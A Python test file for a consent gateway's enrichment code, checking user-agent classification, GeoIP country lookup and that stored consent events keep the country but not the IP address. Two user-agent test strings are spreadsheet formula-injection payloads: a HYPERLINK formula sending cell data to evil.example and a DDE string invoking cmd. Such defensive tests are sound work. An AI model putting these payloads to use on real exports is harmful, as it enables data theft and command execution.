"""Country from a GeoIP2 database and device facts from the user agent."""

from __future__ import annotations

import pytest
from mmdb_writer import MMDBWriter
from netaddr import IPSet
from sqlalchemy import select

from consent_gateway.consent import ConsentEvent
from consent_gateway.enrich import GeoIP, classify_user_agent

UAS = {
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.1 Mobile/15E148 Safari/604.1": ("Mobile Safari", "mobile", False),
    "Mozilla/5.0 (iPad; CPU OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.0 Mobile/15E148 Safari/604.1": ("Mobile Safari", "tablet", False),
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0":
        ("Firefox", "desktop", False),
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": ("Googlebot", "bot", True),
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko": ("IE", "desktop", False),
    "": (None, "other", False),
    # ua-parser copies an app's name from CFNetwork agents: a name it does not know is "Other".
    '=HYPERLINK("http://evil.example/?d="&A1,"x")/1 CFNetwork/1 Darwin/1': ("Other", "mobile", False),
    "@SUM(1+1)*cmd|' /C calc'!A0/1 CFNetwork/1 Darwin/1": ("Other", "mobile", False),
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 "
    "Chrome/115.0 Mobile Safari/537.36": ("Samsung Internet", "mobile", False),
}


@pytest.mark.parametrize(("ua", "expected"), UAS.items())
def test_user_agent_classes(ua, expected):
    result = classify_user_agent(ua)
    assert (result.browser_family, result.device_class, result.is_bot) == expected


@pytest.fixture
def geoip_db(tmp_path):
    writer = MMDBWriter(ip_version=6, ipv4_compatible=True, database_type="GeoLite2-Country")
    writer.insert_network(IPSet(["81.2.69.0/24"]), {"country": {"iso_code": "FR"}})
    writer.insert_network(IPSet(["41.140.0.0/16"]), {"country": {"iso_code": "MA"}})
    writer.insert_network(IPSet(["2a01:e0a::/32"]), {"country": {"iso_code": "FR"}})
    path = tmp_path / "country.mmdb"
    writer.to_db_file(str(path))
    return path


def test_country_lookup(geoip_db):
    geo = GeoIP(geoip_db)
    assert geo.country("81.2.69.160") == "FR"
    assert geo.country("::ffff:41.140.3.4") == "MA", "IPv4-mapped addresses are looked up as IPv4"
    assert geo.country("2a01:e0a:1::1") == "FR"
    assert geo.country("8.8.8.8") is None
    assert geo.country("127.0.0.1") is None and geo.country("garbage") is None
    geo.close()
    assert GeoIP(None).country("81.2.69.160") is None
    assert GeoIP(geoip_db.parent / "absent.mmdb").country("81.2.69.160") is None


def test_recorded_event_has_the_country_and_not_the_address(make_app, geoip_db, demo_banner, db_session):
    app = make_app(geoip_db=geoip_db)
    body = {"action": "reject_all", "choices": {}, "lang": "fr",
            "policy_version": demo_banner["policy_version"], "config_hash": demo_banner["config_hash"]}
    r = app.test_client().post("/api/v1/sites/demo/consents", json=body,
                               headers={"Origin": "http://127.0.0.1:8000"},
                               environ_base={"REMOTE_ADDR": "41.140.3.4"})
    assert r.status_code == 201
    event = db_session.scalars(select(ConsentEvent)).one()
    assert event.country == "MA"
    assert "41.140" not in repr(vars(event))
